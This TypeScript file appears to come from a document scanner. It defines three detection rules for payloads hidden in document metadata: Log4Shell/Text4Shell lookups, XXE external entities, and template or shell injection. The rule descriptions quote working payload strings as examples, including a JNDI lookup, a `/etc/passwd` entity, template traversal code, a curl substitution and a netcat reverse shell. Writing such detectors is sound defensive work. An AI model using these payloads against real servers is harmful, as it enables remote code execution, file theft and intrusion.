// Payloads for the servers that process a document (facts/processor-injections.ts): a lookup that a
// vulnerable Log4j or Commons Text interpolates when it logs or templates a value of the document, and an
// external entity in the XML metadata that a pipeline's XML parser resolves. The reader is not the target.
import { evidence, excerpt } from "./evidence";
import { defineRule } from "./rule";

export const serverLookupInjection = defineRule({
  id: "server-lookup-injection",
  title: "Log4Shell or Text4Shell lookup aimed at the server that processes the document",
  description:
    "A value of the document that servers read (its title, author or other information, a form field's value, an annotation, an attachment's name, the XML metadata) holds a lookup that a vulnerable logging or templating library runs when it writes the value: `${jndi:ldap://host/a}` makes Log4j 2 before 2.17 load and run a class from the attacker's server (Log4Shell, CVE-2021-44228 and CVE-2021-45046), `${script:javascript:...}`, `${url:...}` and `${dns:...}` run code or reach out through Apache Commons Text before 1.10 (Text4Shell, CVE-2022-42889). Nested lookups that hide the word (`${${lower:j}ndi:`, `${${::-j}ndi:`) are unwrapped first. Uploaded to a portal, mailed to a ticketing system or scanned by a document pipeline, the file attacks the server that indexes or logs it. Page text is not searched: an advisory about Log4Shell shows the string to its readers.",
  category: "exploit",
  severity: "high",
  weight: 55,
  attack: ["T1190", "T1203"],
  mitigations: ["update_document_pipeline", "block_indicators"],
  cve: ["CVE-2021-44228", "CVE-2021-45046", "CVE-2022-42889"],
  confidence: "high",
  check({ processorInjections }) {
    const lookups = processorInjections.filter((p) => p.kind === "lookup");
    if (!lookups.length) return null;
    return {
      evidence: lookups.map((l) =>
        evidence({ objectRef: l.objectRef, excerpt: `${l.what} in ${l.where}: ${excerpt(l.excerpt)}` }),
      ),
      detail: `Reaches ${[...new Set(lookups.map((l) => l.target))].map((t) => excerpt(t ?? "", 80)).join(", ")}.`,
    };
  },
});

export const metadataExternalEntity = defineRule({
  id: "metadata-external-entity",
  title: "XML metadata or an XML attachment declares an external entity (XXE)",
  description:
    "The document's XMP metadata (the XML packet that search indexes, asset managers and conversion pipelines parse) or an XML attachment (an e-invoice's ZUGFeRD or Factur-X XML, read by accounts-payable systems) declares an external entity or an external DTD (`<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>`, a parameter entity fetched from a web address). An XML parser that resolves it reads the server's local files into the metadata it stores or shows, or fetches the attacker's URL from inside the network (server-side request forgery); Apache Tika read PDF metadata this way (CVE-2016-4434). XMP never needs a DOCTYPE (its packets are plain RDF), nor do e-invoice schemas.",
  category: "exploit",
  severity: "high",
  weight: 45,
  attack: ["T1190", "T1005"],
  mitigations: ["update_document_pipeline", "block_indicators"],
  cve: ["CVE-2016-4434"],
  confidence: "high",
  check({ processorInjections }) {
    const entities = processorInjections.filter((p) => p.kind === "external-entity");
    if (!entities.length) return null;
    return {
      evidence: entities.map((e) =>
        evidence({
          objectRef: e.objectRef,
          excerpt: `${excerpt(e.excerpt)} in ${e.where}: ${excerpt(e.target ?? "")}`,
        }),
      ),
    };
  },
});

export const serverCodeInjection = defineRule({
  id: "server-code-injection",
  title: "Template or shell injection aimed at the server that processes the document",
  description:
    "A value of the document that servers read (its title, author or other information, a form field's value, an annotation, an attachment's name, the XML metadata) holds code for the software that renders or passes the value on: template code that reaches the runtime (Jinja2 or Twig object traversal such as `{{''.__class__.__mro__}}`, FreeMarker's `freemarker.template.utility.Execute`, Spring EL or OGNL naming `java.lang.Runtime`, Velocity class loading, ERB or EJS code), a template probe (`{{7*7}}`, `${7*7}`: a test of whether the server evaluates it), or a shell command that fetches a file or opens a shell after a command substitution or a separator (`$(curl https://...)`, `; nc host 4444 -e /bin/sh`). A report generator, a document-management system or a conversion script that puts the value into a template or a command line runs it (server-side template injection, OS command injection). Documents never need either in their metadata; page text is not searched.",
  category: "exploit",
  severity: "high",
  weight: 45,
  attack: ["T1190", "T1059"],
  mitigations: ["update_document_pipeline", "block_indicators"],
  confidence: "high",
  check({ processorInjections }) {
    const payloads = processorInjections.filter((p) => p.kind === "template" || p.kind === "command");
    if (!payloads.length) return null;
    return {
      evidence: payloads.map((p) =>
        evidence({ objectRef: p.objectRef, excerpt: `${p.what} in ${p.where}: ${excerpt(p.excerpt)}` }),
      ),
    };
  },
});
